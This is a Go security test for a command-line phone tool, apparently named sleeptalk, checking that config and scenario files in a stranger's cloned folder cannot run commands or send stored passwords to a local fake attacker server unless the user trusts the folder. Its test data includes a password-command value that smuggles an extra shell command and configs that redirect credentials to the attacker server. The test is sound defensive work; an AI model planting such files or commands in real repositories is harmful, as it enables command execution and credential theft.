//go:build hostile

package main

import (
	"bytes"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// mine is the config of a user whose repositories are cloned from anywhere, and
// CLONE, in what follows, a folder with what a stranger has written.
const mine = `account: alice
accounts:
  alice: {server: "192.0.2.1:5060", user: alice, password-env: PW, mic: none}
  prod: {server: "192.0.2.1:5060", user: prod, password-command: "echo topsecret", mic: none}
`

// TestHostileClone runs the commands that a user types in a folder that somebody
// else has filled: nothing is run, and nothing reaches the stranger's server,
// EVIL. Trusted, each attack works, or it would be none.
func TestHostileClone(t *testing.T) {
	attacks := map[string]struct {
		files map[string]string
		run   string // a command line
	}{
		"the command": {map[string]string{".sleeptalk.yaml": "account: m\naccounts:\n  m: {server: EVIL, user: m, raw: lines, password-command: echo x > pwned; echo x, mic: none}\n"}, "--plain"},
		"one line":    {map[string]string{".sleeptalk.yaml": "profiles: {alice: {server: EVIL, raw: lines}}\n"}, "phone --plain"},
		"any variable": {
			map[string]string{".sleeptalk.yaml": "accounts:\n  alice: {server: EVIL, user: m, raw: lines, password-env: SECRET}\n"},
			"phone --plain --account alice",
		},
		"the flag's secret":    {map[string]string{".sleeptalk.yaml": "accounts:\n  m: {server: EVIL, user: m, raw: lines}\n"}, "phone --plain --account m --password-env SECRET"},
		"a scenario":           {map[string]string{"a.talk": "use server EVIL user=m password-env=SECRET\nuse phone alice raw=lines\nregister\nexpect registered within 60s\n"}, "run a.talk --trace never"},
		"the standard account": {map[string]string{"a.talk": "use server EVIL\nuse phone alice raw=lines\nregister\nexpect registered within 60s\n"}, "run a.talk --trace never"},
		"by an include":        {map[string]string{"a.talk": "include b/c.talk\nregister\nexpect registered within 60s\n", "b/c.talk": "use server EVIL user=m password-env=SECRET\nuse phone alice raw=lines\n"}, "run a.talk --trace never"},
		"in two files": {
			map[string]string{".sleeptalk.yaml": "accounts: {prod: {server: EVIL, raw: lines}}\n", "a.talk": "use account prod\nregister\nexpect registered within 60s\n"},
			"run a.talk --trace never",
		},
		"a name that is typed": {
			map[string]string{".sleeptalk.yaml": "accounts: {prod: {server: EVIL}}\n", "own.yaml": "framing: lines\napp:\n  hello: X {password}\nserver:\n  accepted: OK\n"},
			"phone --plain --account prod --raw own.yaml",
		},
	}
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, trusted := range []bool{false, true} {
				evil := newEvil(t)
				clone, home := t.TempDir(), t.TempDir()
				writeBelow(t, home, "config/sleeptalk/config.yaml", mine)
				for file, text := range attack.files {
					writeBelow(t, clone, file, strings.ReplaceAll(text, "EVIL", evil.addr))
				}
				cmd := exec.Command("sleeptalk", strings.Fields(attack.run)...)
				cmd.Dir = clone
				cmd.Env = append(os.Environ(), "HOME="+home, "XDG_CONFIG_HOME="+home+"/config", "XDG_STATE_HOME="+home+"/state", "PW=topsecret", "SECRET=topsecret")
				if trusted {
					cmd.Args = append(cmd.Args, "--trust")
				}
				cmd.Stdin = strings.NewReader("wait for registered within 60s\n")
				said, err := cmd.CombinedOutput()
				_, noFile := os.Stat(filepath.Join(clone, "pwned"))
				harmed := bytes.Contains(evil.heard(), []byte("topsecret")) || noFile == nil
				switch {
				case trusted && !harmed:
					t.Errorf("trusted, it does no harm: the test attacks nothing\n%s", said)
				case trusted:
				case harmed, len(evil.heard()) > 0, cmd.ProcessState.ExitCode() != 3:
					t.Errorf("%v; the stranger heard %q\n%s", err, evil.heard(), said)
				case !bytes.Contains(said, []byte("sleeptalk trust ")):
					t.Errorf("the way out is not named:\n%s", said)
				}
			}
		})
	}
}

// writeBelow makes a file, and the folders that it is in.
func writeBelow(t *testing.T, dir, name, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o700); err != nil {
		t.Fatal(err)
	}
	write(t, dir, name, text)
}

// evil is a stranger's server, which accepts whoever comes and keeps what it hears.
type evil struct {
	addr string
	mu   sync.Mutex
	kept []byte
}

func newEvil(t *testing.T) *evil {
	t.Helper()
	e := new(evil)
	e.addr = accepting(t, e.hear).String()
	return e
}

func (e *evil) hear(c net.Conn) {
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		if err != nil {
			return
		}
		e.mu.Lock()
		e.kept = append(e.kept, buf[:n]...)
		e.mu.Unlock()
		if _, err := c.Write([]byte("OK\r\n")); err != nil {
			return
		}
	}
}

func (e *evil) heard() []byte {
	e.mu.Lock()
	defer e.mu.Unlock()
	return bytes.Clone(e.kept)
}
